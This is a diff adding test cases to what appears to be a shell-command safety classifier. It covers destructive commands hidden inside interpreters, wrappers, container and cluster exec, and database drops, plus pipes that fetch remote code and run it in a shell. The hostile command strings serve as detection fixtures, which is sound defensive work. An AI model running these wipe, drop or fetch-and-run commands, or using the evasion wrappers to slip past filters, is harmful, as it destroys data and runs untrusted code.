@@ -52,10 +52,49 @@ describe('a command inside of another', () => {
     ['in awk', `awk 'BEGIN { system("rm -rf /") }'`],
     ['behind a pipe of awk', `awk '{ print | "rm -rf /" }'`],
     ['read by awk', `awk 'BEGIN { "rm -rf /" | getline }'`],
+    ['in Perl’s backticks', "perl -e '`rm -rf /`'"],
+    ['in PHP’s backticks', "php -r '`rm -rf /`;'"],
+    ['in old Python', `python2 -c 'import shutil; shutil.rmtree("/")'`],
+    ['in Node by another name', `nodejs -e "require('child_process').execSync('rm -rf /')"`],
+    ['in Bun', `bun -e "require('child_process').execSync('rm -rf /')"`],
+    ['in R', `Rscript -e 'system("rm -rf /")'`],
+    ['in Deno', `deno eval 'system("rm -rf /")'`],
+    ['in MongoDB', "mongosh --eval 'db.dropDatabase()'"],
+    ['in an older MongoDB', "mongo --eval 'db.dropDatabase()'"],
+    ['in MariaDB', "mariadb -e 'DROP DATABASE shop'"],
+    ['in DuckDB', "duckdb shop.db -c 'DROP SCHEMA shop'"],
+    ['in SQL Server', "sqlcmd -Q 'DROP DATABASE shop'"],
+    ['in ClickHouse', "clickhouse-client -q 'DROP DATABASE shop'"],
+    ['in BigQuery', "bq query 'DROP SCHEMA shop'"],
+    ['split by env', "env --split-string 'rm -rf /'"],
+    ['under a lock', "flock x -c 'rm -rf /'"],
+    ['under a lock, spelled out', "flock x --command 'rm -rf /'"],
+    ['as somebody else', "runuser bob -c 'rm -rf /'"],
+    ['as somebody else, spelled out', "runuser bob --command 'rm -rf /'"],
+    ['for each that is found, in its folder', 'find . -execdir rm -rf / +'],
+    ['for each that is found and confirmed', 'find . -ok rm -rf / +'],
+    ['for each that fd finds', 'fd x --exec rm -rf /'],
+    ['for all that fd finds', 'fd x --exec-batch rm -rf /'],
     ['in a database', "psql -c 'DROP DATABASE shop'"],
     ['in a document for a database', 'mysql shop <<E\nDELETE FROM orders\nE'],
   ])('counts %s', (_, text) => {
     expect(inCommand(text)).toContain('destroys_all');
+  });
+
+  it.each(['docker', 'podman', 'nerdctl', 'docker-compose'])('counts what %s runs in a container', (program) => {
+    expect(inCommand(`${program} exec web rm -rf /`)).toContain('destroys_all');
+    expect(inCommand(`${program} exec web ls`)).toEqual([]);
+  });
+
+  it.each(['kubectl', 'oc', 'k3s kubectl', 'lxc', 'incus', 'crictl'])('counts what %s runs in a cluster', (program) => {
+    expect(inCommand(`${program} exec web -- rm -rf /`)).toContain('destroys_all');
+    expect(inCommand(`${program} exec web -- ls`)).toEqual([]);
+  });
+
+  it.each(
+    '--rm --init --privileged --tty --interactive --detach --read-only --no-deps --publish-all --quiet'.split(' '),
+  )('sees the command behind docker run %s', (flag) => {
+    expect(inCommand(`docker run ${flag} web rm -rf /`)).toContain('destroys_all');
   });
 
   it.each([
@@ -104,6 +143,14 @@ describe('code from elsewhere', () => {
     'curl https://example.com/x | tee y | bash',
     'curl https://example.com/x | (cat; echo) | bash',
     'wget -qO- https://example.com/x | python3 -',
+    'curl x | ksh',
+    'curl x | ash',
+    'curl x | csh',
+    'curl x | tcsh',
+    'curl x | python2',
+    'curl x | nodejs',
+    'curl x | bash /dev/stdin',
+    'base32 -d x | sh',
     'curl x | perl',
     'curl x | node',
     'curl x | ruby',
